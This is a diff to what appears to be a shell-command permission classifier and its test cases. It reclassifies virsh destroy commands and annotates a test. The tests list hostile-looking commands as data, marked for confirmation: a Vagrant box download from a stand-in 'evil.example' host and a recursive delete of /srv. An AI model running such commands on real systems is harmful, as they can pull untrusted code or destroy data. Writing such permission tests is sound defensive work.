@@ -17,7 +17,7 @@ VAGRANT = command("vagrant", options=[flags("--color --no-color --machine-readab
     loose("*", does=MACHINES)])  # fmt: skip
 LIBVIRT = command("virsh", options=[option("-c --connect", PLAIN), flags("-r --readonly -q --quiet -d= -l=")], subcommands=[
     loose("list dominfo domstate domstats dumpxml net-list net-info pool-list pool-info vol-list vol-info nodeinfo version uri capabilities domblklist domiflist domifaddr snapshot-list vncdisplay hostname iface-list"),
-    loose("destroy undefine vol-delete pool-delete pool-destroy net-destroy snapshot-delete", does=REMOVES),
+    loose("undefine vol-delete pool-delete snapshot-delete", does=REMOVES),
     loose("*", does=MACHINES)])  # fmt: skip
 VIRT = loose(
     "virt-install virt-clone virt-manager virt-viewer virt-customize virt-builder guestfish guestmount guestunmount virt-copy-in virt-copy-out virt-edit",
@@ -78,6 +78,7 @@ ask    vagrant ssh -c 'ls'
 ask    vagrant box add evil https://evil.example/x.box
 allow  virsh list --all
 ask    virsh destroy vm
+       control virtual machines
 allow  limactl list
 ask    limactl delete default
 ask    multipass exec dev -- rm -rf /srv
